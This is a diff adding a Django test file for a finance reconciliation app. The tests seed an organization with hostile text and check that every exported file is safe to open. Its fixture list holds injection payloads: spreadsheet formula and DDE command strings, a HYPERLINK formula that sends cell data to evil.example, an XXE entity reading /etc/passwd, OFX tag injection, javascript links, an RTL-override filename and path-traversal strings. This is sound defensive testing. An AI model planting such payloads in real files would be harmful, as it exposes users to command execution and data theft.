@@ -1,0 +1,140 @@
+"""Every file that the product gives out, of an organization whose every text is hostile: safe to open, and what was said is still there."""
+
+import io
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import Any
+
+import pytest
+from django.contrib.admin import site
+from django.core.management import call_command
+from django.test import Client
+from django.urls import reverse
+
+from finance.audit.acts import Act
+from finance.audit.trail import record
+from finance.views import audit, exports
+from reconciliation import archive
+from reconciliation.models import StatementImport
+from reconciliation.reports import catalogue
+from tests.hostile.files import DIVIDERS, LOOKS, csv_file, wrong_with
+from tests.hostile.suite import whole
+from tests.pipeline.papers import JANUARY
+from tests.posting.making import booked
+from tests.tenants.test_addresses import ROUTES, Route
+from tests.tenants.world import Tenant, a_tenant
+
+pytestmark = pytest.mark.django_db
+TEXTS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "x;=1+1",
+    'x";"=1+1";"',
+    "x\t=1+1|=2",
+    "\t=1+1",
+    " \n=1+1",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+    "</MEMO></STMTTRN><STMTTRN><TRNAMT>1.00</TRNAMT><FITID>x</FITID></STMTTRN>",
+    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;&#0;",
+    "<a href='javascript:alert(1)'>x</a><img src='http://evil.example/x'/><para>",
+    "\N{RIGHT-TO-LEFT OVERRIDE}fdp.exe",
+    "../../../etc/passwd",
+    "..\\..\\windows\\evil",
+)
+CASES = TEXTS if whole() else TEXTS[::4]
+FORMS = sorted({*exports.TYPES, *audit.FILES, *catalogue.TYPES})
+NAMED = re.compile(r'attachment; filename="([\w.-]+)"')
+AS_SENT = {"import_document", "enquiry_file"}
+"""Files that somebody sent, which are given out as they came."""
+
+
+@dataclass(frozen=True, slots=True)
+class Given:
+    """A file that came of an address: its name, and what is in it."""
+
+    name: str
+    content: bytes
+
+
+def a_hostile_organization(text: str) -> Tenant:
+    """More than one entry says it: among others, it stands first and last in a row."""
+    tenant = a_tenant("ours", text)
+    kept = archive.keep(tenant.organization, JANUARY.pdf())
+    StatementImport.objects.of(tenant.organization).filter(stored_as="nowhere").update(stored_as=kept)
+    for number, words in enumerate((text, f"{text} {text}", f"Rent {text}")):
+        booked(tenant.account, 7 + number, "-1.25", words, external_id=f"{text}{number}", reference=text[:200], number=text[:30])
+    record(tenant.organization, tenant.owner, Act.VIEWED, tenant.account, said=text)
+    return tenant
+
+
+def addresses(route: Route, tenant: Tenant) -> Iterator[str]:
+    """One for each form that a file may have, where the address names one."""
+    values: dict[str, Any] = dict(tenant.values(route.name))
+    ways = [{}] if not route.parts & {"format", "form", "report"} else [{"format": form, "form": form} for form in FORMS]
+    reports = [f"{report}.{form}" for report in catalogue.OF_A_STATEMENT for form in FORMS] if "report" in route.parts else [""]
+    for way in ways if "report" not in route.parts else [{}]:
+        for report in reports:
+            chosen = values | way | {"report": report}
+            yield reverse(route.name, kwargs={part: chosen[part] for part in route.parts})
+
+
+def files_of(tenant: Tenant) -> Iterator[Given]:
+    """Whatever any address gives out as a file, whatever the administration does, and the archive of everything."""
+    client = Client()
+    client.force_login(tenant.owner)
+    for route in ROUTES:
+        for address in addresses(route, tenant):
+            answer = client.get(address)
+            if "attachment" in answer.headers.get("Content-Disposition", "") and route.name not in AS_SENT:
+                yield given(answer)
+    tenant.owner.is_staff = True
+    tenant.owner.save()
+    client.force_login(tenant.owner)
+    for action in site.get_model_admin(StatementImport).actions or ():
+        StatementImport.objects.of(tenant.organization).update(status=StatementImport.Status.REVIEW)
+        answer = client.post(
+            reverse("admin:reconciliation_statementimport_changelist"),
+            {"action": action, "_selected_action": [str(tenant.statement_import.pk)]},
+        )
+        if "attachment" in answer.headers.get("Content-Disposition", ""):
+            yield given(answer)
+
+
+def given(answer: Any) -> Given:
+    named = NAMED.fullmatch(answer["Content-Disposition"])
+    assert named, answer["Content-Disposition"]
+    return Given(named[1], answer.getvalue())
+
+
+@pytest.mark.parametrize("text", CASES)
+def test_every_file_is_safe_to_open(text: str) -> None:
+    found = list(files_of(a_hostile_organization(text)))
+
+    wrong = [f"{file.name}: {said}" for file in found for said in wrong_with(file.name, file.content)]
+    assert wrong == []
+    assert {file.name.rpartition(".")[2] for file in found} == {"csv", "ofx", "pdf", "json", "jsonl", "zip"}
+    assert {"statements.csv", "reconciliations.zip", "evidence.zip"} <= {file.name for file in found}
+
+
+@pytest.mark.parametrize("text", CASES)
+def test_the_archive_of_everything_is_safe_to_open(text: str, tmp_path: Any) -> None:
+    a_hostile_organization(text)
+    call_command("export_organization", "ours", str(tmp_path / "all.zip"), stdout=io.StringIO())
+
+    assert list(wrong_with("all.zip", (tmp_path / "all.zip").read_bytes())) == []
+
+
+@pytest.mark.parametrize("text", [text for text in TEXTS if text[0] in "=+-@\t"])
+def test_a_formula_would_be_seen(text: str) -> None:
+    """Or the tests above would find every file safe."""
+    written = '"' + text.replace('"', '""') + '"\n'
+
+    assert list(csv_file(written.encode())) != []
+    assert all(list(csv_file(f"Rent{divider}=1+1\n".encode())) for divider in DIVIDERS)
+
+
+def test_every_form_of_a_file_has_a_way_to_be_looked_at() -> None:
+    assert {f".{form}" for form in FORMS} <= set(LOOKS)
